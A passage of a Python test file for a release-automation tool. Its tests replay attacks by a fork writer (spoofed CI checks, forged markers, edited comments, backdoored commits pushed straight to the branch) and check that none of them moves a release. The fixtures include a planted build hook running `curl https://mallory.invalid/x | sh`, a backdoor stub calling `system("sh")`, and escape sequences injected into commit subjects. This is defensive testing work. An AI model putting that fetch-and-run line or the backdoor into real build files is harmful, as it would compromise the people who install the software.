"""Issue 34: nothing a writer on the fork can post moves a release. Mallory has push access to
the fork and may comment, set commit statuses and merge (no release key, not a maintainer).
Each test is one attack that worked on c17aff3; on both forges where a forge is involved.
Checks, merges, comments and pushed commits now count only from the author allowed to make
them (`controller/identities.py`, the policy's `identities`)."""

from __future__ import annotations

import datetime as dt
import os
import subprocess
from pathlib import Path
from typing import Any

import pygit2
import pytest
import requests

from stablectl.cli.demo_cmd import release_key
from stablectl.controller.missing_names import block, evidence_lines
from stablectl.forge.base import Forge, Marker
from stablectl.forge.local import LocalForge
from stablectl.gitops.history import History
from tests.controller.sync.test_release import approve_backports, approve_release, release_pr
from tests.controller.sync.test_sync import FORK_SLUG, SyncEnv, make_env
from tests.helpers import run_cli

MALLORY = "mallory"  # a writer on the fork: push, comment, statuses, merges; no key


@pytest.fixture(params=["local", "github"])
def env(request: pytest.FixtureRequest, tmp_path: Path) -> SyncEnv:
    fake = request.getfixturevalue("fake_github") if request.param == "github" else None
    return make_env(request.param, tmp_path, fake, series="3.11.2")


def releasing(
    request: pytest.FixtureRequest,
    kind: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    *,
    review_hours: int = 0,
) -> SyncEnv:
    """A line that releases (signing required, an ssh key pinned and set), its backports
    merged and its release PR open."""
    fake = request.getfixturevalue("fake_github") if kind == "github" else None
    e = make_env(kind, tmp_path, fake, series="3.11.2", releases=True)
    key, allowed = release_key(tmp_path / "keys")
    text = e.policy_path.read_text().replace(
        "release:\n", f'release:\n  signing: {{required: true, allowed_signers: "{allowed}"}}\n', 1
    )
    if review_hours:
        text = text.replace("review_hours: 0", f"review_hours: {review_hours}")
    e.policy_path.write_text(text)
    monkeypatch.setenv("STABLECTL_SIGNING_KEY", str(key))
    monkeypatch.setenv("STABLECTL_SIGNING_FORMAT", "ssh")
    e.sync()
    approve_backports(e)
    e.sync()
    assert release_pr(e) is not None
    return e


def fork_tags(e: SyncEnv) -> list[str]:
    repo = pygit2.Repository(str(e.example.fork))
    return sorted(r for r in repo.references if r.startswith("refs/tags/v3.11.2."))


def tagged(report: object) -> list[str]:
    return [a.target for a in report.applied if a.kind == "tag"]  # type: ignore[attr-defined]


def verify_errors(e: SyncEnv, capsys: pytest.CaptureFixture[str], *extra: str) -> list[str]:
    """A downstream's first verify (fresh state; the forge read as a downstream reads it)."""
    fresh = e.root / f"fresh-{len(list(e.root.glob('fresh-*')))}"
    forge = ("--forge-state", str(e.state)) if e.fake is None else ()
    r = run_cli(
        capsys,
        "--state-dir",
        str(fresh),
        "verify",
        "--policy",
        str(e.policy_path),
        "--commits-only",
        "--json",
        *forge,
        *extra,
    )
    return [
        f"{f['subject']}: {f['what']}"
        for f in r.json()["findings"]
        if f["level"] in ("error", "warning")
    ]


# ---------------------------------------------------------------- 1. spoofed required check


def test_a_spoofed_required_check_does_not_merge(env: SyncEnv) -> None:
    """The CI's run fails; Mallory posts a passing `local-ci` over it. Results were keyed by
    name alone: the latest (Mallory's) won and sync merged a failing backport."""
    env.sync()
    pr = next(p for p in env.open_prs() if p.marker.kind == "backport" and not p.draft)
    env.review(pr.number)
    env.green(pr.head_sha, state="failure")
    env.green(pr.head_sha, by=MALLORY)
    report = env.sync()
    assert f"#{pr.number}" not in [a.target for a in report.applied if a.kind == "merge"]
    assert any(
        f"#{pr.number} not merged: required check failed: local-ci (by" in n for n in report.notices
    ), report.notices
    # Mallory's success alone, with the CI silent, is not a run either.
    other = next(
        p
        for p in env.open_prs()
        if p.marker.kind == "backport" and not p.draft and p.number != pr.number
    )
    env.review(other.number)
    env.green(other.head_sha, by=MALLORY)
    report = env.sync()
    assert f"#{other.number}" not in [a.target for a in report.applied if a.kind == "merge"]
    assert any(
        f"#{other.number} not merged" in n and f"reported only by {MALLORY}" in n
        for n in report.notices
    ), report.notices
    # The CI's own success merges it.
    env.green(other.head_sha)
    assert f"#{other.number}" in [a.target for a in env.sync().applied if a.kind == "merge"]


# ---------------------------------------------------------------- 2. release PR merged by hand


@pytest.mark.parametrize("kind", ["local", "github"])
def test_a_release_pr_merged_by_hand_is_never_tagged(
    kind: str,
    request: pytest.FixtureRequest,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """48 hours before its review deadline, with its real tests failing and a passing status
    spoofed, Mallory fast-forwards the stable branch onto the release PR's head. The next sync
    tagged and signed it (GitHub records the PR merged, by Mallory)."""
    e = releasing(request, kind, tmp_path, monkeypatch, review_hours=48)
    rpr = release_pr(e)
    e.review(rpr.number)  # type: ignore[attr-defined]
    e.green(rpr.head_sha, state="failure")  # type: ignore[attr-defined]
    e.green(rpr.head_sha, by=MALLORY)  # type: ignore[attr-defined]
    e.move_branch("3.11.2-stable", rpr.head_sha, by=MALLORY)  # type: ignore[attr-defined]
    merged = e.new_forge().get_pr(rpr.number)  # type: ignore[attr-defined]
    assert merged.state == "merged" and merged.merged_by in (MALLORY, None)
    report = e.sync()
    assert tagged(report) == [] and fork_tags(e) == []
    held = [p for p in report.problems if "v3.11.2.1 is not signed" in p]
    assert held, report.problems
    assert "not by the controller" in held[0] and "before its review deadline" in held[0]
    assert "required check failed" in held[0]
    found = verify_errors(e, capsys)
    assert any("no tag for the release commit" in f for f in found), found


# ---------------------------------------------------------------- 3. forged reply marker


def test_a_forged_reply_marker_does_not_silence_a_command(env: SyncEnv) -> None:
    """A stranger's comment carrying a `reply` marker naming a maintainer's `/stablectl skip`
    made sync take the command as answered: it never ran."""
    env.sync()
    pr = next(p for p in env.open_prs() if p.marker.kind == "backport" and not p.draft)
    env.comment(pr.number, "/stablectl skip", "maint")
    asked = next(
        c
        for c in env.new_forge().comments_since(dt.datetime(2000, 1, 1, tzinfo=dt.UTC))
        if c.body.startswith("/stablectl skip")
    )
    forged = Marker("reply", "", extra={"reply": str(asked.id)}).render()
    env.comment(pr.number, f"Done!\n\n{forged}", MALLORY)
    report = env.sync()
    assert f"#{pr.number}" in [a.target for a in report.applied if a.kind == "skip"], report.applied
    assert env.new_forge().get_pr(pr.number).state == "closed"


# ---------------------------------------------------------------- 4. forged CI comment


def test_a_forged_ci_comment_adds_no_prerequisite(env: SyncEnv) -> None:
    """A stranger's `tests-failed` comment with a `stablectl-missing` block made sync add an
    unflagged upstream commit to a security PR as a "prerequisite"."""
    env.sync()
    up = History(env.example.upstream, clock=2_000_000_000)
    helper = up.commit(
        "main",
        "gh-3300: Add a helper nobody flagged (#3301)",
        {"Lib/test/support_x.py": "def helper():\n    return 42\n"},
    )
    fix = up.commit(
        "main",
        "gh-3310: Check the answer (#3311)",
        {
            "Lib/test/test_fixf.py": "from support_x import helper\n",
            "Misc/NEWS.d/next/Security/2030-03-01-00-00-00.gh-issue-3310.rst": "Checked.\n",
        },
    )
    env.sync()
    pr = next(p for p in env.open_prs() if p.marker.original == fix)
    marker = Marker("tests-failed", "", extra={"sha": pr.head_sha}).render()
    log = "ImportError: cannot import name 'helper' from 'support_x' (/w/support_x.py)\n"
    env.comment(pr.number, f"Failed.{block(evidence_lines(log))}\n\n{marker}", MALLORY)
    env.sync()
    after = env.new_forge().get_pr(pr.number)
    assert after.head_sha == pr.head_sha and "prerequisite" not in after.labels
    # The same comment from the CI brings `helper`'s commit as a prerequisite.
    ci = "stablectl-ci" if env.kind == "local" else "github-actions[bot]"
    env.comment(pr.number, f"Failed.{block(evidence_lines(log))}\n\n{marker}", ci)
    env.sync()
    after = env.new_forge().get_pr(pr.number)
    assert after.head_sha != pr.head_sha and "prerequisite" in after.labels
    assert helper[:10] in after.body


# ---------------------------------------------------------------- 5, 6. pushed straight


def _released_once(
    request: pytest.FixtureRequest, kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> SyncEnv:
    e = releasing(request, kind, tmp_path, monkeypatch)
    approve_release(e)
    assert tagged(e.sync()) == ["v3.11.2.1"]
    return e


@pytest.mark.parametrize("kind", ["local", "github"])
def test_an_infrastructure_commit_pushed_straight_is_not_released(
    kind: str,
    request: pytest.FixtureRequest,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A commit with the `Stablectl-Infrastructure:` trailer that replaces the test workflow
    with `exit 0` and adds `.github/build-hook.sh` (`curl … | sh`): verify passed it, the next
    release shipped it signed, and neither the release PR nor the manifest said so."""
    e = _released_once(request, kind, tmp_path, monkeypatch)
    h = History(e.example.fork, clock=2_100_000_000)
    h.commit(
        "3.11.2-stable",
        "stablectl: test workflow\n\nStablectl-Infrastructure: workflows\n",
        {
            ".github/workflows/stable-tests.yml": "on: [push]\njobs: {t: {runs-on: x, "
            "steps: [{run: exit 0}]}}\n",
            ".github/build-hook.sh": "curl https://mallory.invalid/x | sh\n",
        },
    )
    found = verify_errors(e, capsys)
    assert any(
        "infrastructure commit" in f and ".github/build-hook.sh" in f and "renders" in f
        for f in found
    ), found
    report = merge_a_new_fix(e)
    assert tagged(report) == [] and release_pr(e) is None
    assert any("release held" in p and "infrastructure commit" in p for p in report.problems)


def merge_a_new_fix(e: SyncEnv) -> object:
    """Upstream fixes something more; its backport is approved, green and merged: a release
    of what the branch now holds is due. Returns that sync's report."""
    up = History(e.example.upstream, clock=2_000_000_000)
    up.commit(
        "main",
        "gh-3700: Check mod15 bounds (#3701)",
        {
            "Modules/mod15.c": "/* bounded */\n",
            "Misc/NEWS.d/next/Security/2030-03-02-00-00-00.gh-issue-3700.rst": "Bounded.\n",
        },
    )
    e.sync()
    approve_backports(e)
    report = e.sync()
    assert [a for a in report.applied if a.kind == "merge"], report.actions
    return report


def release_pr_number(e: SyncEnv) -> int:
    return next(p.number for p in e.new_forge().list_prs("all") if p.marker.kind == "release")


@pytest.mark.parametrize("kind", ["local", "github"])
def test_an_excluded_commit_pushed_straight_is_an_error(
    kind: str,
    request: pytest.FixtureRequest,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A verbatim `cherry-pick -x` of the commit the policy excludes ("needs a new API; not
    for stable") pushed to the branch: verify said "identical to upstream", the release PR
    listed it as an ordinary security fix, and it was signed."""
    e = _released_once(request, kind, tmp_path, monkeypatch)
    excluded = e.example.shas["excluded"]
    fork = History(e.example.fork, clock=2_100_000_000)
    picked = fork.backport(
        excluded, "3.11.2-stable", prefix="", source=pygit2.Repository(str(e.example.upstream))
    )
    found = verify_errors(e, capsys)
    assert any(
        f.startswith(picked[:12]) and "which the policy excludes (needs a new API" in f
        for f in found
    ), found
    assert any(
        f.startswith(picked[:12]) and "did not come through a merged stablectl PR" in f
        for f in found
    ), found
    e.comment(release_pr_number(e), "/stablectl release 3.11.2", "maint")
    report = e.sync()
    assert tagged(report) == [] and not [a for a in report.applied if a.kind == "open"]
    assert any("release held" in p and "policy excludes" in p for p in report.problems)


def push_an_unselected_pick(e: SyncEnv) -> str:
    """Upstream tidies something no rule flags; Mallory pushes its verbatim `cherry-pick -x`
    straight to the stable branch. Returns the pushed commit."""
    up = History(e.example.upstream, clock=2_000_000_000)
    other = up.commit("main", "gh-3900: Tidy mod12 (#3901)", {"Modules/mod12.c": "/* tidy */\n"})
    fork = History(e.example.fork, clock=2_100_000_000)
    upstream = pygit2.Repository(str(e.example.upstream))
    return fork.backport(other, "3.11.2-stable", prefix="", source=upstream)


def test_a_commit_pushed_straight_is_listed_in_the_release_pr(
    request: pytest.FixtureRequest,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """An upstream fix the policy never selected, cherry-picked verbatim and pushed: upstream's
    code, so not an error, but named by verify (an error under --require-reviewed) and listed
    above the fixes in the next release PR, where the maintainers approving it see it."""
    e = _released_once(request, "local", tmp_path, monkeypatch)
    picked = push_an_unselected_pick(e)
    found = verify_errors(e, capsys)
    assert any(f.startswith(picked) and "did not come through" in f for f in found), found
    strict = verify_errors(e, capsys, "--require-reviewed")
    assert any("did not come through" in f for f in strict)
    e.comment(release_pr_number(e), "/stablectl release 3.11.2", "maint")
    e.sync()
    rpr = release_pr(e)
    assert rpr is not None
    body = rpr.body  # type: ignore[attr-defined]
    assert "did not come through a reviewed stablectl PR" in body
    assert body.index(picked) < body.index("Proposes **3.11.2.2**")


# ---------------------------------------------------------------- 7. marker injection


def test_a_marker_in_upstream_text_is_data(env: SyncEnv) -> None:
    """An upstream Security NEWS entry carrying a `stablectl:marker` landed in the PR body
    before the real marker, and `Marker.parse` took the first: the PR was closed "applied",
    reopened, closed again on alternate syncs."""
    up = History(env.example.upstream, clock=2_000_000_000)
    fake = Marker("backport", "3.11.2", original=env.example.shas["A"], extra={"status": "clean"})
    fix = up.commit(
        "main",
        "gh-3500: Reject bad input in mod13 (#3501)",
        {
            "Modules/mod13.c": "/* checked */\n",
            "Misc/NEWS.d/next/Security/2030-03-01-00-00-00.gh-issue-3500.rst": (
                f"Reject bad input.\n{fake.render()}\n"
            ),
        },
    )
    env.sync()
    pr = next(p for p in env.open_prs() if p.marker.original == fix)
    assert pr.body.count("<!-- stablectl:marker") == 1
    assert "&lt;!-- stablectl:marker" in pr.body  # shown as written, inert
    for _ in range(2):
        report = env.sync()
        assert report.api["writes"] == 0, report.actions
    assert env.new_forge().get_pr(pr.number).state == "open"


# ---------------------------------------------------------------- 8. terminal escapes


def test_upstream_escapes_never_reach_the_terminal(tmp_path: Path) -> None:
    """Upstream subjects with ESC sequences (colours, an OSC 8 link) reached the terminal raw
    from `sync`, even with NO_COLOR=1."""
    e = make_env("local", tmp_path, None, series="3.11.2")
    up = History(e.example.upstream, clock=2_000_000_000)
    up.commit(
        "main",
        "gh-3600: \x1b[31mRED\x1b[0m \x1b]8;;https://mallory.invalid\x07link\x1b]8;;\x07 (#3601)",
        {
            "Modules/mod14.c": "/* x */\n",
            "Misc/NEWS.d/next/Security/2030-03-01-00-00-00.gh-issue-3600.rst": "X.\n",
        },
    )
    for cmd in (("sync",), ("plan",), ("prs",), ("status",)):
        r = e.cli(*cmd)
        assert r.returncode == 0, r.stderr
        out = r.stdout + r.stderr
        assert "\x1b" not in out and "\x07" not in out, (cmd, out[-2000:])
    assert "RED" in e.cli("prs").stdout


# ---------------------------------------------------------------- 9, 11. the release key


@pytest.mark.parametrize("kind", ["local", "github"])
def test_a_key_given_as_text_is_never_printed_and_nothing_is_merged(
    kind: str, request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """STABLECTL_SIGNING_KEY holding the key's *text*: the key reached stdout, a `::error`
    annotation (newlines as %0A, past the runner's masking) and the job summary, and an
    unsigned tag was pushed (git 2.39's `git tag -s` exits 0 when it cannot load the key)."""
    e = releasing(request, kind, tmp_path, monkeypatch)
    approve_release(e)
    key_text = Path(os.environ["STABLECTL_SIGNING_KEY"]).read_text()
    summary = tmp_path / "summary.md"
    env = {
        **e.env(),
        "STABLECTL_SIGNING_KEY": key_text,
        "STABLECTL_SIGNING_FORMAT": "ssh",
        "GITHUB_ACTIONS": "true",
        "GITHUB_STEP_SUMMARY": str(summary),
    }
    r = e.cli("sync", env=env)
    seen = r.stdout + r.stderr + (summary.read_text() if summary.exists() else "")
    for line in key_text.splitlines():
        if len(line) >= 8:
            assert line not in seen and line not in seen.replace("%0A", "\n")
    assert "STABLECTL_SIGNING_KEY holds a key's text" in seen
    assert fork_tags(e) == []
    assert release_pr(e) is not None  # not merged either: it could not have been tagged


@pytest.mark.parametrize("kind", ["local", "github"])
def test_no_usable_key_merges_no_release(
    kind: str, request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With no signing key (or one that cannot sign), sync merged the approved release PR and
    only then failed to tag: a release commit with no tag, every downstream verify failing."""
    e = releasing(request, kind, tmp_path, monkeypatch)
    approve_release(e)
    monkeypatch.delenv("STABLECTL_SIGNING_KEY")
    report = e.sync()
    assert not [a for a in report.applied if a.kind in ("merge", "tag")]
    assert any("release held" in p and "STABLECTL_SIGNING_KEY" in p for p in report.problems)
    broken = tmp_path / "broken.key"
    broken.write_text("not a key\n")
    broken.chmod(0o600)
    monkeypatch.setenv("STABLECTL_SIGNING_KEY", str(broken))
    report = e.sync()
    assert not [a for a in report.applied if a.kind in ("merge", "tag")]
    assert any("release key cannot sign" in p for p in report.problems), report.problems
    assert release_pr(e) is not None and fork_tags(e) == []


def test_an_unsigned_tag_is_never_pushed(tmp_path: Path) -> None:
    """The fail-closed check behind the release: a tag `git tag -s` made without a signature
    (git 2.39 with an unloadable ssh key) is refused before any push, and deleted."""
    from stablectl.errors import GitError
    from stablectl.gitops.signing import Trust, check_signed_tag

    repo = tmp_path / "r.git"
    subprocess.run(["git", "init", "-q", "--bare", str(repo)], check=True)
    h = History(repo)
    c = h.commit("main", "x", {"a": "1\n"})
    env = {**os.environ, "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t"}
    subprocess.run(
        ["git", "--git-dir", str(repo), "tag", "-a", "-m", "m", "v1", c], check=True, env=env
    )
    with pytest.raises(GitError, match="without a signature"):
        check_signed_tag(repo, "v1", Trust())


# ---------------------------------------------------------------- 10. verify fails closed


@pytest.mark.parametrize("kind", ["local", "github"])
def test_verify_fails_closed_without_release_files(
    kind: str,
    request: pytest.FixtureRequest,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """`verify --releases DIR` with a mistyped or empty directory, or a fresh state with no
    --releases, printed warnings, then "verified", exit 0."""
    e = _released_once(request, kind, tmp_path, monkeypatch)
    forge = ("--forge-state", str(e.state)) if e.fake is None else ()
    empty = tmp_path / "empty"
    empty.mkdir()

    def verify(*args: str) -> tuple[int, dict[str, object], str]:
        fresh = tmp_path / f"v{len(list(tmp_path.glob('v*')))}"
        argv = ["--state-dir", str(fresh), "verify", "--policy", str(e.policy_path), *forge]
        r = run_cli(capsys, *argv, *args, "--json")
        text = run_cli(capsys, *argv, *args, "--no-record")
        assert text.code == r.code
        return r.code, r.json(), " ".join((text.out + text.err).split())

    missing = tmp_path / "dowloads"
    for args in (("--releases", str(missing)), ("--releases", str(empty)), ()):
        code, report, out = verify(*args)
        assert code == 1, (args, out)
        found = [f["what"] for f in report["findings"] if f["level"] == "error"]  # type: ignore[attr-defined]
        assert any(f.startswith("no release files for v3.11.2.1 in") for f in found), found
        assert out.endswith("verification failed")
    code, report, out = verify("--releases", str(missing))
    assert any(str(missing / "v3.11.2.1") in f["what"] for f in report["findings"])  # type: ignore[attr-defined]
    code, report, out = verify("--commits-only")
    assert code == 0 and report["commits_only"] is True, out
    assert out.endswith("verified (commits, tags and reviews only: release files NOT CHECKED)")


# ---------------------------------------------------------------- found by an attacker's try
# A helper of ours, told only the threat model, attacked the change above; each of these got
# through it (see the closing note of issue 34), and is caught now.


def as_mallory(e: SyncEnv) -> Forge:
    """Mallory's own client of the fork's forge."""
    if e.fake is None:
        return LocalForge(
            e.state / "forge" / "pyexample.sqlite", e.example.fork, slug=FORK_SLUG, actor=MALLORY
        )
    return e.as_user(MALLORY)


def edit_marker(
    e: SyncEnv, number: int, *, original: str = "", source: str = "", **extra: str
) -> None:
    """Mallory edits a PR's body (any writer can, on GitHub): a copy of its marker, changed
    (`original`, `source`, `extra` fields), appended (the last marker is the one read)."""
    m = as_mallory(e)
    pr = m.get_pr(number)
    assert pr.marker is not None
    changed = Marker(
        pr.marker.kind,
        pr.marker.series,
        original=original or pr.marker.original,
        source=source or pr.marker.source,
        extra={**pr.marker.extra, **extra},
    )
    m.update_pr(number, body=pr.body + "\n" + changed.render())


@pytest.mark.parametrize("kind", ["local", "github"])
def test_an_edited_review_deadline_releases_nothing_early(
    kind: str,
    request: pytest.FixtureRequest,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The deadline lived in the PR body: moved to 2000, the approved, green release was
    merged, tagged and signed 48 hours early; a deadline without a time zone crashed sync."""
    e = releasing(request, kind, tmp_path, monkeypatch, review_hours=48)
    approve_release(e)
    rpr = release_pr(e)
    edit_marker(e, rpr.number, deadline="2000-01-01T00:00:00+00:00")  # type: ignore[attr-defined]
    report = e.sync()
    assert tagged(report) == [] and fork_tags(e) == []
    assert any("review window's signature does not hold" in p for p in report.problems)
    edit_marker(e, rpr.number, deadline="2000-01-01")  # type: ignore[attr-defined]
    r = e.cli("sync")
    assert r.returncode == 1 and "has no time zone" in " ".join(r.stdout.split()), r.stdout
    assert fork_tags(e) == []


def test_a_skip_label_set_by_a_writer_drops_no_fix(env: SyncEnv) -> None:
    """Mallory labels a security backport `skipped` and closes it: the fix was dropped for
    good ("skipped by a maintainer"). A skip counts only where the controller closed the PR
    in answer to a maintainer (its closing comment)."""
    env.sync()
    pr = next(p for p in env.open_prs() if p.marker.kind == "backport" and "security" in p.labels)
    m = as_mallory(env)
    m.set_labels(pr.number, [*pr.labels, "skipped"])
    m.close_pr(pr.number)
    report = env.sync()
    assert any(f"#{pr.number} carries the 'skipped' label" in n for n in report.notices)
    assert [p for p in env.open_prs() if p.marker.original == pr.marker.original]
    # A maintainer's skip still holds, run after run.
    again = next(p for p in env.open_prs() if p.marker.original == pr.marker.original)
    env.comment(again.number, "/stablectl skip", "maint")
    env.sync()
    assert not [p for p in env.open_prs() if p.marker.original == pr.marker.original]
    assert env.sync().api["writes"] == 0


@pytest.mark.parametrize("kind", ["local", "github"])
def test_an_edited_merged_pr_launders_no_direct_push(
    kind: str,
    request: pytest.FixtureRequest,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A merged stablectl PR's marker given `prerequisites: 0,1,…,f`: every upstream commit
    counted as having come through it (prefixes, both ways), so a pick pushed straight passed
    `verify --require-reviewed` and was released unlisted."""
    e = _released_once(request, kind, tmp_path, monkeypatch)
    picked = push_an_unselected_pick(e)
    merged = next(
        p
        for p in e.new_forge().list_prs("all")
        if p.state == "merged" and p.marker is not None and p.marker.kind == "backport"
    )
    edit_marker(e, merged.number, prerequisites=",".join("0123456789abcdef"))
    found = verify_errors(e, capsys, "--require-reviewed")
    assert any(f.startswith(picked) and "did not come through" in f for f in found), found


def test_an_edited_comment_obeys_no_command(tmp_path: Path, fake_github: Any) -> None:
    """On GitHub anyone with write access may edit anyone's comment, and the author shown
    stays: a maintainer's "Thanks, I'll look" edited into `/stablectl skip` closed a
    security fix's PR."""
    env = make_env("github", tmp_path, fake_github, series="3.11.2")
    env.sync()
    pr = next(p for p in env.open_prs() if p.marker.kind == "backport" and "security" in p.labels)
    env.comment(pr.number, "Thanks, I'll look at this one tomorrow.", "maint")
    assert env.sync().api["writes"] == 0
    c = next(
        c
        for c in env.new_forge().comments_since(dt.datetime(2000, 1, 1, tzinfo=dt.UTC))
        if c.user == "maint"
    )
    env.as_user(MALLORY)
    r = requests.patch(
        f"{env.fake.base}/repos/{FORK_SLUG}/issues/comments/{c.id}",  # type: ignore[union-attr]
        json={"body": "/stablectl skip"},
        timeout=10,
        headers={"Authorization": f"token tok-{MALLORY}"},
    )
    r.raise_for_status()
    report = env.sync()
    assert not [a for a in report.applied if a.kind == "skip"]
    assert env.new_forge().get_pr(pr.number).state == "open"
    said = [a.detail for a in report.applied if a.kind == "comment"]
    assert any("reply-error to maint" in d for d in said), report.applied


@pytest.mark.parametrize("kind", ["local", "github"])
def test_an_edited_release_pr_body_is_restored(
    kind: str,
    request: pytest.FixtureRequest,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Mallory deletes the list of commits pushed straight from the release PR's body; sync
    never rewrote it, and the maintainers approved a release they were not told about."""
    e = _released_once(request, kind, tmp_path, monkeypatch)
    push_an_unselected_pick(e)
    e.comment(release_pr_number(e), "/stablectl release 3.11.2", "maint")
    e.sync()
    rpr = release_pr(e)
    assert rpr is not None and "did not come through" in rpr.body  # type: ignore[attr-defined]
    body = "\n".join(x for x in rpr.body.splitlines() if not x.startswith(">"))  # type: ignore[attr-defined]
    as_mallory(e).update_pr(rpr.number, body=body)  # type: ignore[attr-defined]
    report = e.sync()
    assert any(a.detail == "release PR text restored" for a in report.applied), report.applied
    assert release_pr(e).body == rpr.body  # type: ignore[attr-defined]
    assert e.sync().api["writes"] == 0


@pytest.mark.parametrize("kind", ["local", "github"])
def test_a_tag_pushed_on_a_pushed_release_commit_is_never_signed(
    kind: str,
    request: pytest.FixtureRequest,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A release commit that changes `Modules/mod10.c` (a backdoor), pushed with an unsigned
    tag `v3.11.2.2` on it: with the tag already there, sync skipped every check, built the
    tarballs from Mallory's tree and signed SHA256SUMS with the real release key."""
    e = _released_once(request, kind, tmp_path, monkeypatch)
    fork = History(e.example.fork, clock=2_100_000_000)
    evil = fork.commit(
        "3.11.2-stable",
        "Release 3.11.2.2\n\nStablectl-Release: 3.11.2.2\n",
        {"Modules/mod10.c": '/* backdoor */ int evil(void) { return system("sh"); }\n'},
    )
    env = {**os.environ, "GIT_COMMITTER_NAME": "m", "GIT_COMMITTER_EMAIL": "m@m"}
    subprocess.run(
        ["git", "--git-dir", str(e.example.fork), "tag", "-a", "-m", "ok", "v3.11.2.2", evil],
        check=True,
        env=env,
    )
    report = e.sync()
    out = e.state / "releases" / "pyexample" / "v3.11.2.2"
    assert not out.exists() and e.new_forge().get_release("v3.11.2.2") is None
    assert not [a for a in report.applied if a.kind == "release"]
    assert any("release held" in p and "v3.11.2.2" in p for p in report.problems), report.problems


def test_look_alike_logins_never_match() -> None:
    """`"\u212a".lower()` (KELVIN SIGN) is `"k"`: on a forge that accepts any name (the local
    one), a look-alike of a maintainer's, the controller's or the CI's login counted as theirs."""
    from stablectl.controller.gate import approvers_of
    from stablectl.controller.identities import trusted_author
    from stablectl.forge.base import PullRequest, Review
    from tests.helpers import minimal_policy

    policy = minimal_policy("maintainers: [kate]\nidentities: {controller: kbot, ci: [kci]}\n")
    k = "\u212a"
    assert trusted_author(policy, "KATE") and policy.is_controller("KBot") and policy.is_ci("kci")
    assert not trusted_author(policy, f"{k}ate") and not trusted_author(policy, f"{k}bot")
    assert not policy.is_controller(f"{k}bot") and not policy.is_ci(f"{k}ci")
    pr = PullRequest(1, "t", "", "h", "b", "a" * 40, "open", False, (), "kbot", "u")
    at = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    reviews = [Review(1, f"{k}ate", "APPROVED", "a" * 40, at)]
    assert approvers_of(policy, pr, reviews) == []
    assert approvers_of(policy, pr, [Review(2, "Kate", "APPROVED", "a" * 40, at)]) == ["kate"]


# ---------------------------------------------------------------- a second attacker's round


def test_an_old_skip_relabelled_drops_no_fix(env: SyncEnv) -> None:
    """A maintainer skipped one fix; Mallory edits that closed PR's marker to name a pending
    security fix, then closes the security fix's PR: the fix was dropped for good. Which fix
    a PR is now comes from its head branch, which nobody changes once the PR exists."""
    env.sync()
    prs = [p for p in env.open_prs() if p.marker.kind == "backport"]
    sec = next(p for p in prs if "security" in p.labels and not p.draft)
    other = next(p for p in prs if p.number != sec.number)
    env.comment(other.number, "/stablectl skip", "maint")
    env.sync()
    assert env.new_forge().get_pr(other.number).state == "closed"
    edit_marker(env, other.number, original=sec.marker.original, source=sec.marker.original)
    as_mallory(env).close_pr(sec.number)
    env.sync()
    assert [p for p in env.open_prs() if p.marker.original == sec.marker.original]


def _fgit(e: SyncEnv, *args: str) -> str:
    env = {**os.environ, "GIT_COMMITTER_NAME": "m", "GIT_COMMITTER_EMAIL": "m@m"}
    env |= {"GIT_AUTHOR_NAME": "m", "GIT_AUTHOR_EMAIL": "m@m"}
    git = ["git", "--git-dir", str(e.example.fork), *args]
    return subprocess.run(git, capture_output=True, text=True, check=True, env=env).stdout.strip()


def plant_adaptation(
    e: SyncEnv, capsys: pytest.CaptureFixture[str], *, source: str, tree: str, pr: int
) -> str:
    """Mallory pushes straight to the stable branch a commit with `tree` that claims to be
    `source` adapted, reviewed in #`pr`, with the exact interdiff (computed as verify does)."""
    from stablectl.gitops.messages import Adapted, adapted_message

    tip = _fgit(e, "rev-parse", "3.11.2-stable")
    msg = f"gh-9999: Tidy\n\n(cherry picked from commit {source})\n"
    plain = _fgit(e, "commit-tree", tree, "-p", tip, "-m", msg)
    _fgit(e, "update-ref", "refs/heads/3.11.2-stable", plain)
    forge = ("--forge-state", str(e.state)) if e.fake is None else ()
    fresh = e.root / f"scratch-{len(list(e.root.glob('scratch-*')))}"
    argv = ["--state-dir", str(fresh), "verify", "--policy", str(e.policy_path)]
    r = run_cli(capsys, *argv, "--commits-only", "--json", "--no-record", *forge)
    got = next(x for s in r.json()["series"] for x in s["adapted"] if x["commit"] == plain)
    rec = Adapted(source, got["lines"], pr, got["interdiff"])
    recorded = _fgit(e, "commit-tree", tree, "-p", tip, "-m", adapted_message(msg, rec))
    _fgit(e, "update-ref", "refs/heads/3.11.2-stable", recorded)
    return recorded


def test_an_adaptation_pushed_straight_is_an_error(
    env: SyncEnv, capsys: pytest.CaptureFixture[str]
) -> None:
    """A commit pushed straight that "adapts" a security fix by carrying the tree of an
    unrelated, approved PR, whose marker Mallory re-points at the fix: verify accepted the
    adaptation as reviewed (the release then signed a CVE claim the code did not carry).
    Which fix a PR backports is read from its commits now, and an adaptation pushed straight
    is an error."""
    env.sync()
    prs = [p for p in env.open_prs() if p.marker.kind == "backport" and not p.draft]
    sec = next(p for p in prs if "security" in p.labels)
    tip = _fgit(env, "rev-parse", "3.11.2-stable")
    other = next(
        p
        for p in prs
        if p.number != sec.number and _fgit(env, "rev-parse", f"{p.head_sha}^") == tip
    )
    env.review(other.number)
    planted = plant_adaptation(
